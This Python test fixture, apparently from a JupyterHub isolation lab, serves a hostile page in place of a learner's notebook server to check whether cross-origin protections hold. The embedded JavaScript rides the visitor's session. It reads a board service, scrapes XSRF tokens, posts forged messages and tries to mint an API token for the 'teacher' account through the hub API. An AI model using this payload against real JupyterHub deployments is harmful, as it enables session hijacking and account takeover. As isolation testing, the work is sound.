"""What a learner may put in JupyterLab's place: a page that acts with the session of whoever opens it, and tells what it got."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from queue import Queue
from threading import Thread

import requests

from hostnet_lab.classroom.settings import Settings
from hostnet_lab.edges.pace import limit_s

NAME = "mallory"
PAGE = """<!doctype html><meta charset="utf-8"><title>My homework</title><body>My homework<script>
const doors = [...new Set([location.origin, BOARD])], told = {}, found = {};
const tried = async (what, work) => { try { told[what] = await work(); } catch (error) { told[what] = 'closed'; } };
const text = (url) => new Promise((done) => {  // of a window: reading one of another origin throws
  const other = window.open(url);
  let looks = 0;
  const look = setInterval(() => {
    let read = '';
    try {
      const page = other.document;
      if (page.readyState === 'complete' && other.location.href !== 'about:blank') read = page.documentElement.outerHTML;
    } catch (error) { read = 'closed'; }
    if (!read && ++looks < 300) return;
    clearInterval(look);
    try { other.close(); } catch (error) { /* cut off */ }
    done(read || 'closed');
  }, 50);
});
const token = (page, pattern) => (page.match(pattern) || [])[1];
const send = (url, body, headers = {}) => fetch(url, {method: 'POST', body, headers, credentials: 'include'});
(async () => {
  await tried('the control: a page of its own', async () => (await text('/user/NAME/other')).includes('My homework') ? 'read' : 'closed');
  for (const door of doors) {
    const board = `${door}/services/board/`;
    await tried(`${door}: fetch the board`, async () => {
      const page = await (await fetch(board, {credentials: 'include'})).text();
      return page.includes('class="board"') ? 'read' : 'closed';
    });
    await tried(`${door}: a window with the board`, async () => {
      const page = await text(board);
      found.board = token(page, /name="_xsrf" value="([^"]+)"/);
      return page.includes('class="board"') ? 'read' : 'closed';
    });
    await tried(`${door}: a frame with the board`, () => new Promise((done) => {
      const frame = document.createElement('iframe');
      frame.onload = () => {
        try { done(frame.contentDocument.querySelector('.board') ? 'read' : 'closed'); } catch (error) { done('closed'); }
      };
      frame.src = board;
      document.body.append(frame);
    }));
    await tried(`${door}: a button of the board`, async () => {
      const answer = await send(`${board}say`, new URLSearchParams({message: 'NAME was here', _xsrf: found.board || ''}));
      return answer.ok ? 'pressed' : 'closed';
    });
    await tried(`${door}: the same without asking for an answer`, async () => {
      const form = {method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({message: 'NAME was here'})};
      await fetch(`${board}say`, form);
      return 'closed';  // whether it was pressed stands on the board
    });
    await tried(`${door}: a window with the hub's page of tokens`, async () => {
      found.hub = token(await text(`${door}/hub/token`), /xsrf_token: "([^"]+)"/);
      return found.hub ? 'read' : 'closed';
    });
    await tried(`${door}: a token of the teacher's`, async () => {
      const headers = {'X-XSRFToken': found.hub || '', 'Content-Type': 'application/json'};
      return (await (await send(`${door}/hub/api/users/teacher/tokens`, '{}', headers)).json()).token ? 'made' : 'closed';
    });
  }
  await send('/user/NAME/told', JSON.stringify(told));
})();
</script>"""


@dataclass
class Served:
    """``cookies``: the names of those that browsers sent to the learner's program."""

    cookies: set[str] = field(default_factory=set)
    results: Queue[dict[str, str]] = field(default_factory=Queue)

    def told(self) -> dict[str, str]:
        """By what was tried: read, made, pressed, or closed."""
        return self.results.get(timeout=limit_s(120))


@contextmanager
def served(settings: Settings) -> Iterator[Served]:
    """The page, at the address of a lab host: where the proxies lead to for a learner is that learner's program."""
    found = Served()
    page = PAGE.replace("BOARD", json.dumps(settings.address.rstrip("/"))).replace("NAME", NAME).encode()

    class Program(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.cookies.update(one.partition("=")[0].strip() for one in self.headers.get("Cookie", "").split(";"))
            self._answer(page)

        def do_POST(self) -> None:
            found.results.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    where = settings.addresses
    with ThreadingHTTPServer(("127.0.0.1", 0), Program) as program:
        Thread(target=program.serve_forever, daemon=True).start()
        targets = {where.labs_proxy_port: program.server_port, where.proxy_port: where.turn_port}
        try:
            for api, target in targets.items():
                _route(settings, api, "POST", target)
            yield found
        finally:
            for api in targets:
                _route(settings, api, "DELETE")
            program.shutdown()


def _route(settings: Settings, api: int, method: str, target: int = 0) -> None:
    """As the hub asks a proxy."""
    body = {"target": f"http://127.0.0.1:{target}"} if target else None
    headers = {"Authorization": f"token {settings.secrets.proxy}"}
    url = f"http://127.0.0.1:{api}/api/routes/user/{NAME}"
    requests.request(method, url, json=body, headers=headers, timeout=limit_s(20)).raise_for_status()
